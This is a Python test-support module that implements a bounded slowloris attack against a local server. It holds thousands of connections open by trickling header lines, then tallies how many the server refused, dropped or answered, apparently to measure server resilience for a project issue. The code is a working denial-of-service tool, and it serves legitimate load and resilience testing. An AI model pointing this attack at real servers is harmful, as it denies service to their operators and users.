"""Slow clients: many connections from one address, each sending one header line every few seconds.

The attack of issue #25 (a "slowloris"): a connection that never finishes its request's headers.
:func:`attack` holds them all in one process on one ``selectors`` loop: it opens ``connections``
sockets, each bound to ``source`` before it connects, over ``ramp_seconds``; sends each a request
line, then one header line every ``interval`` seconds; and when the server closes one, opens
another in its place at that slot's next turn. Everything is bounded: ``seconds`` in all, and at
most one attempt per slot and turn.

Run it in a process of its own, so its loop never shares an interpreter lock with the client whose
latency is measured (``python -m tests.support.slow_clients --port P``: prints the tally as JSON)."""

from __future__ import annotations

import argparse
import collections
import errno
import json
import resource
import selectors
import socket
import time
from dataclasses import asdict, dataclass, field

REQUEST_LINE = b"GET /v1/games HTTP/1.1\r\nHost: coins\r\n"
HEADER_LINE = b"X-Slow: 1\r\n"
REFUSED_SECONDS = 1.0  # a connection the server closes sooner than this after connecting was refused


@dataclass
class Tally:
    """What became of the attack's connections."""

    attempts: int = 0  # connect() calls
    connected: int = 0  # of which the handshake completed
    failed: int = 0  # of which connect() failed (refused, reset, out of ports)
    refused: int = 0  # connected, then closed by the server within REFUSED_SECONDS
    dropped: int = 0  # connected, then closed by the server later (a timeout)
    answered: int = 0  # connections the server sent bytes on (an error page) before it closed them
    held_at_end: int = 0  # still open when the attack ended
    most_held: int = 0  # the most open at once
    errors: dict[str, int] = field(default_factory=dict)  # connect() failures by errno name


@dataclass
class _Slot:
    sock: socket.socket | None = None
    opened: float = 0.0
    sent_request_line: bool = False
    answered: bool = False


def raise_open_files(needed: int) -> int:
    """Raise this process's soft limit on open files to ``needed`` (up to the hard limit); the new limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = needed if hard == resource.RLIM_INFINITY else min(needed, hard)
    if wanted > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
        return wanted
    return soft


def attack(
    host: str,
    port: int,
    *,
    source: str,
    connections: int,
    seconds: float,
    interval: float = 3.0,
    ramp_seconds: float = 3.0,
) -> Tally:
    """Hold ``connections`` slow connections from ``source`` to ``host:port`` for ``seconds``."""
    raise_open_files(connections + 256)
    tally = Tally()
    selector = selectors.DefaultSelector()
    slots = [_Slot() for _ in range(connections)]
    started = time.monotonic()
    deadline = started + seconds
    # Slot i's turns come at started + i * ramp / n + k * interval: a FIFO of due slots stays in order.
    due: collections.deque[tuple[float, int]] = collections.deque(
        (started + index * ramp_seconds / max(1, connections), index) for index in range(connections)
    )
    held = 0

    def close(index: int, by_server: bool) -> None:
        nonlocal held
        slot = slots[index]
        assert slot.sock is not None
        selector.unregister(slot.sock)
        slot.sock.close()
        slot.sock = None
        held -= 1
        if by_server:
            lived = time.monotonic() - slot.opened
            if lived < REFUSED_SECONDS:
                tally.refused += 1
            else:
                tally.dropped += 1
            tally.answered += slot.answered

    def take_turn(index: int, now: float) -> None:
        nonlocal held
        slot = slots[index]
        if slot.sock is None:
            tally.attempts += 1
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            try:
                sock.bind((source, 0))
                code = sock.connect_ex((host, port))
            except OSError as error:
                code = error.errno or errno.EIO
            if code not in (0, errno.EINPROGRESS):
                sock.close()
                tally.failed += 1
                name = errno.errorcode.get(code, str(code))
                tally.errors[name] = tally.errors.get(name, 0) + 1
                return
            slots[index] = slot = _Slot(sock, now)
            selector.register(sock, selectors.EVENT_READ, index)
            held += 1
            tally.most_held = max(tally.most_held, held)
        assert slot.sock is not None
        try:
            slot.sock.send(HEADER_LINE if slot.sent_request_line else REQUEST_LINE)
            slot.sent_request_line = True
        except BlockingIOError:
            pass  # the handshake is still under way, or the buffer is full: the next turn sends
        except OSError:
            close(index, by_server=True)

    while True:
        now = time.monotonic()
        if now >= deadline:
            break
        while due and due[0][0] <= now:
            turn, index = due.popleft()
            take_turn(index, now)
            due.append((turn + interval, index))
        wait = min(deadline, due[0][0] if due else deadline) - time.monotonic()
        for key, _ in selector.select(max(0.0, wait)):
            index = key.data
            slot = slots[index]
            assert slot.sock is not None
            try:
                data = slot.sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                slot.answered = True
            else:
                close(index, by_server=True)

    tally.held_at_end = held
    tally.connected = tally.attempts - tally.failed
    for index, slot in enumerate(slots):
        if slot.sock is not None:
            close(index, by_server=False)
    selector.close()
    return tally


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="127.0.0.2", help="the address the attack's sockets are bound to")
    parser.add_argument("--connections", type=int, default=5000)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--interval", type=float, default=3.0, help="seconds between two header lines")
    parser.add_argument("--ramp-seconds", type=float, default=3.0, help="over which the connections are opened")
    args = parser.parse_args()
    tally = attack(
        args.host,
        args.port,
        source=args.source,
        connections=args.connections,
        seconds=args.seconds,
        interval=args.interval,
        ramp_seconds=args.ramp_seconds,
    )
    print(json.dumps(asdict(tally)), flush=True)


if __name__ == "__main__":
    main()
